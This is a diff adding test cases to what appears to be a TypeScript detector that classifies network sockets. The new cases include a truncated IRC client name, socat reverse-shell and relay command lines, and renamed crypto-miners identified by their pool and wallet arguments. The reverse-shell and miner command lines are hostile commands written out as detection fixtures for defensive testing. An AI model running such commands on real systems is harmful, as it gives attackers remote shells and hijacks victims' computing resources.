@@ -26,6 +26,9 @@ function sock(c: Case): Socket {
 const ep = (address: string, port: number): Endpoint => ({ address, port });
 const out = (port: number, p: ProcessInfo | null, proto: Proto = "tcp"): Case => ({ proto, local: ep("192.0.2.10", 40000), remote: ep("198.51.100.7", port), direction: "outbound", process: p });
 
+/** A Monero address (the Monero project's donation address, as in trust-scenarios.test.ts). */
+const XMR = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
+
 // [what, socket, expected verdict, rules that must fire, rules that must not fire]
 const cases: [string, Case, Verdict, string[], string[]][] = [
   // IRC
@@ -33,6 +36,9 @@ const cases: [string, Case, Verdict, string[], string[]][] = [
   ["an unknown program connected to IRC 6697 (from a capture)", out(6697, null), "suspicious", ["irc-outbound"], []],
   ["an IRC client (weechat) on 6667: an IRC client on an IRC port", out(6667, proc("weechat")), "expected", ["irc-client"], ["irc-outbound"]],
   ["hexchat on 6697: an IRC client on an IRC port", out(6697, proc("hexchat")), "expected", ["irc-client"], ["irc-outbound"]],
+  ["weechat-headless (comm cut to weechat-headles) on 6697: an IRC client", out(6697, proc("weechat-headles", "/usr/bin/weechat-headless", { cmdline: ["weechat-headless", "--daemon"] })), "expected", ["irc-client"], ["irc-outbound"]],
+  ["weechat-headless in a capture (the cut name only) on 6697: an IRC client", out(6697, proc("weechat-headles", null)), "expected", ["irc-client"], ["irc-outbound"]],
+  ["python3 renamed weechat-headless on 6697: not an IRC client", out(6697, proc("weechat-headles", "/usr/bin/python3.11", { cmdline: ["weechat-headless"] })), "suspicious", ["irc-outbound"], ["irc-client"]],
   ["Cassandra (java) to 7000, the IRC collision: must not fire", out(7000, proc("java")), "unknown", [], ["irc-outbound"]],
   // backdoors
   ["a listener on 31337", { local: ep("0.0.0.0", 31337), direction: "listening", exposure: "all-interfaces", process: proc("x") }, "suspicious", ["backdoor-port"], []],
@@ -47,6 +53,18 @@ const cases: [string, Case, Verdict, string[], string[]][] = [
   ["a browser to 3333: must not fire", out(3333, proc("firefox", "/usr/lib/firefox/firefox")), "expected", ["usual-outbound"], ["mining-pool"]],
   ["adb on 5555 (miner collision): must not fire", out(5555, proc("adb")), "unknown", [], ["mining-pool"]],
   ["an unknown program to 14444: unknown", out(14444, null), "unknown", ["mining-pool"], []],
+  // socat: a shell's pipe when an address runs a program or is its own input and output, a port forward when both ends are network ends
+  ["socat TCP:HOST:443 EXEC:/bin/sh,pty,stderr (a reverse shell)", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "TCP:198.51.100.7:443", "EXEC:/bin/sh,pty,stderr,setsid"] })), "suspicious", ["shell-socket"], ["relay"]],
+  ["socat - TCP:HOST:443 (a netcat)", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "-", "TCP:198.51.100.7:443"] })), "suspicious", ["shell-socket"], ["relay"]],
+  ["socat -d -d TCP-LISTEN:8080,fork TCP:HOST:443 (a port forward): unknown, not a shell", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "-d", "-d", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:198.51.100.7:443"] })), "unknown", ["relay"], ["shell-socket"]],
+  // miners renamed and copied elsewhere, told by their arguments: xmrig's -o POOL -u WALLET, an option's value in the next argument
+  ["xmrig renamed syshelper in /opt, -o pool:443 -u a Monero wallet", out(443, proc("syshelper", "/opt/sys/syshelper", { cmdline: ["syshelper", "-o", "198.51.100.7:443", "-u", XMR, "-k", "--tls"] })), "suspicious", ["miner"], []],
+  ["xmrig --user=WALLET.worker", out(443, proc("syshelper", "/opt/sys/syshelper", { cmdline: ["syshelper", "--url=198.51.100.7:443", `--user=${XMR}.rig1`, "--tls"] })), "suspicious", ["miner"], []],
+  ["a miner with --algo rx/0 as two arguments", out(80, proc("x", "/opt/sys/x", { cmdline: ["x", "--algo", "rx/0", "-o", "198.51.100.7:80"] })), "suspicious", ["miner"], []],
+  ["a miner with -a rx/0 as two arguments", out(80, proc("x", "/opt/sys/x", { cmdline: ["x", "-a", "rx/0"] })), "suspicious", ["miner"], []],
+  ["an Ethereum miner with -u 0x… (T-Rex, lolMiner)", out(443, proc("x", "/opt/sys/x", { cmdline: ["x", "-a", "etchash", "-o", "198.51.100.7:443", "-u", "0x1f9090aaE28b8a3dCeaDf281B0F12828e676c326.rig"] })), "suspicious", ["miner"], []],
+  ["a Stratum V2 pool URI (stratum2+tcp)", out(443, proc("x", "/opt/sys/x", { cmdline: ["x", "-o", "stratum2+tcp://198.51.100.7:443"] })), "suspicious", ["miner"], []],
+  ["a program with -o FILE -u USER and -a all (benign nearest): not a miner", out(443, proc("curl", "/usr/bin/curl", { cmdline: ["curl", "-o", "out.txt", "-u", "admin:secret", "-a", "all", "https://198.51.100.7/"] })), "expected", ["usual-outbound"], ["miner"]],
   // process integrity
   ["a deleted executable from /tmp", { local: ep("127.0.0.1", 50001), direction: "listening", process: proc("updater", "/tmp/x/updater", { exeDeleted: true }) }, "suspicious", ["deleted-exe", "writable-dir-exe"], []],
   ["a system daemon replaced by an upgrade: unknown, not suspicious", { local: ep("0.0.0.0", 22), direction: "listening", exposure: "all-interfaces", process: proc("sshd", "/usr/sbin/sshd", { exeDeleted: true }) }, "unknown", ["deleted-exe", "known-service"], []],
